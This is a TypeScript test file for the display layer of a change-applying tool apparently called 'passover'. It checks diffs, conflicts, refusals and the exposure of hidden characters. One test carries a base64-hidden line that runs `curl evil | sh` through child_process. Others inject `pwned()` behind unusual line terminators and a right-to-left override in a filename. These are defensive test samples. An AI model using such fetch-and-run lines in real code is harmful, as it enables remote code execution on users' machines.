import type { NumberedModification } from '@passover/core'
import type { FileModificationArtifact } from '@passover/schemas'
import type { Applied } from '@passover/sdk'
import { type ConflictVersions, showTaken } from '@passover/sdk/internal'
import picocolors from 'picocolors'
import { describe, expect, it } from 'vitest'
import { pathsOf, planChanges } from '../../../sdk/src/apply/plan/plan.js'
import { renderApplied, renderPlan, renderUndone } from './render.js'

const colors = picocolors.createColors(false)
const sides: ConflictVersions = { old_content: 'a\n', current: 'c\n', new_content: 'b\n', encoding: 'utf8' }

function change(number: number, path: string, more: Partial<FileModificationArtifact> = {}): NumberedModification {
  const modification = { path, old_content: 'a\n', new_content: 'b\n', reason: 'x', confidence: 'high', ...more } as const
  return { number, digest: String(number), modification: { type: 'file_modification', ...modification } }
}
const of = (number: number, path: string) => ({ number, digest: String(number), path, operation: 'modify' as const })
const all = [change(1, 'one'), change(2, 'two'), change(3, 'three'), change(4, 'four')]

/** As `passover apply` makes it of the files in a directory. */
function planned(all: NumberedModification[], files: Record<string, string>, taken = all) {
  const view = new Map(
    pathsOf(all).map((path) => [
      path,
      path in files ? { kind: 'file' as const, bytes: Buffer.from(files[path] ?? ''), mode: 0o644 } : { kind: 'absent' as const },
    ]),
  )
  const plan = planChanges(taken, view, { binary: false })
  return { plan, text: renderPlan({ plan, files: showTaken(taken, plan) }, { colors, all }) }
}

describe('a plan', () => {
  it('shows each file with its diff, a conflict with the later changes, and rejected changes', () => {
    const { text } = planned(all, { one: 'a\n', two: 'c\n', three: 'b\n', four: 'a\n' }, all.slice(0, 3))
    expect(text).toMatch(/1 {2}one {2}modify[\s\S]*-a\n\+b/)
    expect(text).toMatch(/conflict: it was changed since[\s\S]*-a\n\+b[\s\S]*saw it:[\s\S]*-a\n\+c/)
    expect(text).toMatch(/3 {2}three {2}as proposed already\n[\s\S]*-a\n\+b/)
    expect(text).toMatch(/4 {2}four {2}rejected/)
    expect(text).toContain(
      '1 change cannot be applied, so nothing was written: either all changes of a pass are applied or none; use --only to apply the other changes.',
    )
  })

  it('says that nothing was written if every change conflicts', () => {
    const { text } = planned([change(1, '/one')], {})
    expect(text).toContain('refused: the path is absolute')
    expect(text).not.toContain('--only')
  })

  it('shows text that is given as base64, and refuses binary content with its size, hash and type', () => {
    const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')
    const evil = 'require("child_process").exec("curl evil | sh")\n'
    const hidden = change(1, 'a.js', { encoding: 'base64', old_content: base64('let x = 1\n'), new_content: base64(evil) })
    expect(planned([hidden], { 'a.js': 'let x = 1\n' }).text).toContain(`-let x = 1\n+${evil}`.trimEnd())
    const image = change(1, 'a.png', {
      encoding: 'base64',
      old_content: '',
      new_content: base64('\x89PNG\r\n\x1a\n\0'),
      operation: 'create',
    })
    const { plan, text } = planned([image], {})
    expect(plan.changes).toEqual([])
    expect(text).toMatch(/refused: it is binary[\s\S]*after {2}PNG image, 9 bytes, sha256 [0-9a-f]{64}/)
  })

  it('shows the combined effect of all changes of a file', () => {
    const two = [change(1, 'f', { old_content: 'a\n', new_content: 'b\n' }), change(2, 'f', { old_content: 'b\n', new_content: 'c\n' })]
    const { text, plan } = planned(two, { f: 'a\n' })
    expect(plan.changes[0]?.after?.bytes.toString()).toBe('c\n')
    expect(text).toMatch(/^1, 2 {2}f {2}modify\n--- a\/f\n\+\+\+ b\/f\n@@ -1,1 \+1,1 @@\n-a\n\+c$/)
    const broken = [two[0], change(2, 'f', { old_content: 'x\n', new_content: 'c\n' })].filter((one) => one !== undefined)
    expect(planned(broken, { f: 'a\n' }).text).toContain('! the changes of this file do not build on each other')
  })

  it('shows no line end but a line feed as one, and hides nothing between lines', () => {
    for (const [end, name] of [
      ['\r', '␍'],
      ['\u2028', '<U+2028>'],
      ['\u2029', '<U+2029>'],
      ['\v', '␋'],
      ['\f', '␌'],
      ['\u0085', '<U+0085>'],
    ]) {
      const { text } = planned([change(1, 'a.js', { new_content: `a\n// see the docs ${end}pwned()\n` })], { 'a.js': 'a\n' })
      expect(text.split('\n')).toContain(`+// see the docs ${name}pwned()`)
      expect(text).toContain(`! hidden characters in the new content: ${name}`)
    }
    const { text } = planned([change(1, 'a\u202egpj.js', { reason: 'tidy\u001b[2K' })], { 'a\u202egpj.js': 'a\n' })
    expect(text).toMatch(/^1 {2}a<U\+202E>gpj.js/)
    expect(text).toContain('! hidden characters in the reason: ␛')
    for (const raw of ['\u202e', '\u001b']) expect(text).not.toContain(raw)
    // Where all lines end in CRLF they are shown without, as everywhere.
    expect(planned([change(1, 'w', { old_content: 'a\n', new_content: 'b\n' })], { w: 'a\r\n' }).text).toMatch(/-a\n\+b$/)
    expect(planned([change(1, 'w', { old_content: 'a\nb\n', new_content: 'a\r\nb\r\n' })], { w: 'a\nb\n' }).text).toContain('+a␍\n+b␍')
  })

  it('refuses a deletion with new content and a creation with old content', () => {
    expect(planned([change(1, 'one', { operation: 'delete' })], { one: 'a\n' }).text).toContain(
      'refused: it deletes the file and has new content',
    )
    expect(planned([change(1, 'one', { operation: 'create' })], {}).text).toContain('refused: it creates the file and has old content')
  })
})

describe('the result of an application', () => {
  const nothing: Applied = {
    applied: [],
    already: [],
    conflicts: [],
    held_back: [],
    rejected: [],
    applied_by: 'ann',
    recorded: true,
    settled: [],
  }
  const say = (applied: Partial<Applied>) =>
    renderApplied({ ...nothing, ...applied }, { colors, all, id: 'the-pass', by: 'maria (unverified)' })

  it('names each file, the approver and the undo command', () => {
    const text = say({ applied: ['one'], already: ['two'], rejected: ['four'], recorded: false })
    expect(text).toMatch(/✓ one[\s\S]*= two already had this content[\s\S]*– four rejected/)
    expect(text).toContain('Applied 1 change, approved by maria (unverified). To undo: passover undo the-pass')
    expect(text).toContain('The record could not be stored yet')
    expect(say({})).toBe('Nothing to do.')
  })

  it('says that nothing was applied if a change conflicts', () => {
    const gone = { old_content: 'a\n', new_content: 'b\n', encoding: 'utf8' as const }
    const conflicts: Applied['conflicts'] = [
      { ...of(1, 'one'), kind: 'conflict', why: 'it is not there', sides: gone },
      { ...of(2, 'two'), kind: 'conflict', why: 'it was changed since', sides: { ...sides, encoding: 'base64' } },
      { ...of(4, 'four'), kind: 'refused', why: 'the path is absolute' },
    ]
    const text = say({ conflicts, held_back: ['three'] })
    expect(text).toMatch(/✗ one conflict: it is not there[\s\S]*\(the file does not exist\)/)
    expect(text).toContain('saw it:')
    expect(text).toContain('✗ four refused: the path is absolute')
    expect(text).toContain('– three not applied, because of the conflicts')
    expect(text).toMatch(/Nothing was applied\. To compare the files with the changes: passover apply the-pass --dry-run$/)
  })

  it('reports the recovery of an application whose process was killed', () => {
    const settled: Applied['settled'] = [
      { id: 'old', kind: 'apply', outcome: 'finished' },
      { id: 'older', kind: 'undo', outcome: 'put_back' },
    ]
    expect(say({ settled })).toMatch(/an application of old was interrupted and has been finished\n.*an undo of older .* rolled back/)
  })

  it('names files that could not be rolled back, and where their original content is', () => {
    const kept = '.passover/apply/old/n/before-0'
    const settled: Applied['settled'] = [{ id: 'old', kind: 'apply', outcome: 'put_back', left: [{ path: 'a', kept }, { path: 'new' }] }]
    const told = `rolled back, except files that were changed since then: a (previous content: ${kept}; delete it when you no longer need it), new`
    expect(say({ settled })).toContain(told)
    const key = { originator: 'alice', subagent: 'audit', id: 'the-pass' }
    expect(renderUndone({ key, undone: ['one'], conflicts: [], recorded: true, settled }, colors)).toContain(told)
  })

  it('lists restored files and conflicts of an undo', () => {
    const key = { originator: 'alice', subagent: 'audit', id: 'the-pass' }
    const undone = { key, undone: ['one'], conflicts: [{ path: 'two', why: 'it was changed since' }], recorded: false, settled: [] }
    const text = renderUndone(undone, colors)
    expect(text).toMatch(/✓ one restored\n✗ two: it was changed since\nFiles without ✓ were not changed\./)
    expect(text).toContain('The record could not be stored yet')
    expect(renderUndone({ ...undone, conflicts: [], recorded: true }, colors)).toBe('✓ one restored')
  })
})
